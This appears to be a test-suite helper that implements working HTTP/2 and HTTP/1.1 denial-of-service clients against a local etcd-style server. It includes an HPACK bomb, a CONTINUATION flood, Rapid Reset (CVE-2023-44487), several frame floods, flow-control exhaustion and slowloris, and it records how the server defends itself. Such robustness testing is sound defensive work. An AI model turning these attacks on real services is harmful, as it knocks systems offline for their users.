"""Hostile HTTP/2 clients for test_abuse.py, one function per attack class.

Each attack runs in a child process (`python abuse_attacks.py CASE PORT SECONDS`), so its
Python loop does not share a GIL with the test's well-behaved client, and prints one JSON
line of what it saw: GOAWAY error codes and debug data, RST_STREAM codes, connections the
server closed, bytes sent. An attacker whose connection is closed reconnects and goes on
until its time is up, as a real one would.

Frames are built by hand (transport_h2raw.py): HPACK literals, plus the indexed references
a compression bomb needs.
"""
from __future__ import annotations

import json
import os
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import transport_h2raw as h2  # noqa: E402

CONTINUATION, PRIORITY = 9, 2
FRAME_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
               6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}
RANGE_BIG = b"\n\x0babuse/big/0"   # RangeRequest{key: "abuse/big/0"} (test_abuse.py puts it)


def range_request(key: bytes) -> bytes:
    return h2.grpc_message(b"\n" + bytes([len(key)]) + key)


class Report:
    """What the server did to the attacker's connections (thread-safe enough for counters)."""

    def __init__(self):
        self.goaway: list[str] = []
        self.rst: dict[str, int] = {}
        self.closed = 0
        self.connections = 0
        self.sent = 0
        self.responses = 0

    def as_dict(self):
        return {"goaway": self.goaway[:5], "goaways": len(self.goaway), "rst": self.rst,
                "closed_by_server": self.closed, "connections": self.connections,
                "bytes_sent": self.sent, "responses": self.responses}


class Conn:
    """One attacker connection with a reader thread that drains and records server frames."""

    def __init__(self, port, report: Report, settings=b"", read=True, handshake=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.report = report
        self.dead = False
        report.connections += 1
        if handshake:
            self.send(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0, settings))
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def send(self, data: bytes) -> bool:
        if self.dead:
            return False
        try:
            self.sock.sendall(data)
            self.report.sent += len(data)
            return True
        except OSError:
            if not self.dead:
                self.report.closed += 1  # reset by the server (a reader thread may count it first)
            self.dead = True
            return False

    def _read(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                if not self.dead:
                    self.report.closed += 1
                self.dead = True
                return
            buf += chunk
            while len(buf) >= 9:
                length = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + length:
                    break
                ftype, payload = buf[3], buf[9:9 + length]
                buf = buf[9 + length:]
                if ftype == h2.GOAWAY and len(payload) >= 8:
                    code = FRAME_NAMES.get(int.from_bytes(payload[4:8], "big"), str(payload[4:8]))
                    debug = payload[8:].decode(errors="replace")
                    self.report.goaway.append(f"{code} {debug}".strip())
                elif ftype == h2.RST_STREAM and len(payload) == 4:
                    code = FRAME_NAMES.get(int.from_bytes(payload, "big"), str(payload))
                    self.report.rst[code] = self.report.rst.get(code, 0) + 1
                elif ftype == h2.HEADERS:
                    self.report.responses += 1

    def close(self):
        self.dead = True
        try:
            self.sock.close()
        except OSError:
            pass


def _loop(port, seconds, report, body, **conn_args):
    """Runs `body(conn)` on fresh connections until `seconds` pass; `body` returns when its
    connection is dead or it is done with it."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            conn = Conn(port, report, **conn_args)
        except OSError:
            time.sleep(0.05)
            continue
        try:
            body(conn, end)
        finally:
            conn.close()


# ------------------------------------------------------------------------------- attacks

def hpack_bomb(port, seconds, report):
    """One 4 KiB dynamic-table entry, then header blocks of nothing but one-byte references
    to it: each 16 KiB HEADERS frame decodes to a 64 MiB header list."""
    entry = b"\x40" + h2._hpack_int(6, 7) + b"x-bomb" + h2._hpack_int(4000, 7) + b"b" * 4000

    def body(conn, end):
        sid, first = 1, True
        while time.monotonic() < end and not conn.dead:
            block = h2.grpc_request_headers("/etcdserverpb.KV/Range") + (entry if first else b"")
            block += b"\xbe" * (16384 - len(block))
            first = False
            conn.send(h2.frame(h2.HEADERS, h2.END_HEADERS, sid, block))
            sid += 2
    _loop(port, seconds, report, body)


def oversized_header_list(port, seconds, report):
    """Literal header fields (no compression tricks) adding up to 100 KiB per request, in a
    HEADERS frame and six CONTINUATION frames."""
    fields = h2.header_block([(f"x-big-{i}", "v" * 1000) for i in range(100)])

    def body(conn, end):
        sid = 1
        while time.monotonic() < end and not conn.dead:
            block = h2.grpc_request_headers("/etcdserverpb.KV/Range") + fields
            chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
            out = h2.frame(h2.HEADERS, 0 if len(chunks) > 1 else h2.END_HEADERS, sid, chunks[0])
            for i, chunk in enumerate(chunks[1:], 1):
                out += h2.frame(CONTINUATION, h2.END_HEADERS if i == len(chunks) - 1 else 0, sid, chunk)
            conn.send(out + h2.frame(h2.DATA, h2.END_STREAM, sid, range_request(b"a")))
            sid += 2
    _loop(port, seconds, report, body)


def continuation_flood(port, seconds, report):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames forever (small literal
    headers in each), so the header block never ends."""
    piece = h2.header_block([("x-c", "c" * 200)]) * 40

    def body(conn, end):
        conn.send(h2.frame(h2.HEADERS, 0, 1, h2.grpc_request_headers("/etcdserverpb.KV/Range")))
        batch = h2.frame(CONTINUATION, 0, 1, piece) * 16
        while time.monotonic() < end and conn.send(batch):
            pass
    _loop(port, seconds, report, body)


def rapid_reset(port, seconds, report):
    """CVE-2023-44487: a complete Range request and its RST_STREAM, back to back, as fast as
    the socket takes them."""
    def body(conn, end):
        sid = 1
        while time.monotonic() < end and not conn.dead:
            out = b""
            for _ in range(100):
                out += conn_request(sid) + h2.frame(h2.RST_STREAM, 0, sid, struct.pack(">I", 8))
                sid += 2
            conn.send(out)
    _loop(port, seconds, report, body)


def conn_request(sid, key=b"abuse/probe"):
    return (h2.frame(h2.HEADERS, h2.END_HEADERS, sid, h2.grpc_request_headers("/etcdserverpb.KV/Range"))
            + h2.frame(h2.DATA, h2.END_STREAM, sid, range_request(key)))


def _flood(port, seconds, report, frame_bytes, read=True):
    batch = frame_bytes * (16384 // len(frame_bytes) + 1)

    def body(conn, end):
        while time.monotonic() < end and conn.send(batch):
            pass
    _loop(port, seconds, report, body, read=read)


def settings_flood(port, seconds, report):
    """Empty SETTINGS frames, never reading the ACKs."""
    _flood(port, seconds, report, h2.frame(h2.SETTINGS, 0, 0), read=False)


def ping_flood(port, seconds, report):
    _flood(port, seconds, report, h2.frame(h2.PING, 0, 0, b"12345678"), read=False)


def window_update_flood(port, seconds, report):
    """Connection WINDOW_UPDATE frames of 1 byte each."""
    _flood(port, seconds, report, h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def priority_flood(port, seconds, report):
    _flood(port, seconds, report, h2.frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 15)))


def empty_data_flood(port, seconds, report):
    """A request stream left open, then empty DATA frames on it without END_STREAM."""
    def body(conn, end):
        conn.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_request_headers("/etcdserverpb.Watch/Watch")))
        batch = h2.frame(h2.DATA, 0, 1) * 2000
        while time.monotonic() < end and conn.send(batch):
            pass
    _loop(port, seconds, report, body)


def zero_window(port, seconds, report):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, then Range requests for a 256 KiB value: no response
    byte may be sent, so every response the server builds stays queued."""
    def body(conn, end):
        sid = 1
        while time.monotonic() < end and not conn.dead and sid < 8000:
            out = b""
            for _ in range(50):
                out += conn_request(sid, b"abuse/big/0")
                sid += 2
            conn.send(out)
            time.sleep(0.01)
        while time.monotonic() < end and not conn.dead:
            time.sleep(0.05)
    _loop(port, seconds, report, body, settings=struct.pack(">HI", 4, 0))


def never_read(port, seconds, report):
    """Range requests for a 256 KiB value, never reading a byte of the answers: the socket
    fills and the server must stop taking requests rather than queue answers."""
    def body(conn, end):
        conn.sock.settimeout(0.2)
        sid = 1
        while time.monotonic() < end and not conn.dead and sid < 8000:
            out = b"".join(conn_request(sid + 2 * i, b"abuse/big/0") for i in range(50))
            sid += 100
            try:
                conn.sock.sendall(out)
                report.sent += len(out)
            except socket.timeout:
                break  # the server stopped reading (a frame may be cut: send nothing more)
            except OSError:
                return
        while time.monotonic() < end:
            time.sleep(0.05)
    _loop(port, seconds, report, body, read=False)


def slowloris(port, seconds, report, count=300):
    """Connections that send half of the client preface, or the preface and half a frame
    header, and then nothing."""
    conns = []
    for i in range(count):
        try:
            c = Conn(port, report, read=False, handshake=False)
        except OSError:
            break
        c.send(h2.PREFACE[:12] if i % 2 == 0 else h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0)[:5])
        conns.append(c)
    time.sleep(seconds)
    for c in conns:
        c.close()


def http1_slowloris(port, seconds, report, count=300):
    """HTTP/1.1 on the same port: connections that send part of a request head, or a whole
    head and part of its body, and then nothing."""
    conns = []
    for i in range(count):
        try:
            c = Conn(port, report, read=False, handshake=False)
        except OSError:
            break
        c.send(b"POST /v3/kv/range HTTP/1.1\r\nHost: localhost\r\nContent-Le" if i % 2 == 0 else
               b"POST /v3/kv/range HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\n{\"key\":")
        conns.append(c)
    time.sleep(seconds)
    for c in conns:
        c.close()


def idle_connections(port, seconds, report, count=2000):
    """Connections that complete the handshake and then sit idle."""
    conns = []
    for _ in range(count):
        try:
            c = Conn(port, report, read=False)
        except OSError:
            break
        c.send(h2.frame(h2.SETTINGS, h2.ACK, 0))
        conns.append(c)
    report.idle = len(conns)
    time.sleep(seconds)
    for c in conns:
        c.close()


ATTACKS = {f.__name__: f for f in [
    hpack_bomb, oversized_header_list, continuation_flood, rapid_reset, settings_flood,
    ping_flood, window_update_flood, priority_flood, empty_data_flood, zero_window, never_read,
    slowloris, http1_slowloris, idle_connections]}


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    report = Report()
    ATTACKS[name](port, seconds, report)
    out = report.as_dict()
    if hasattr(report, "idle"):
        out["idle"] = report.idle
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
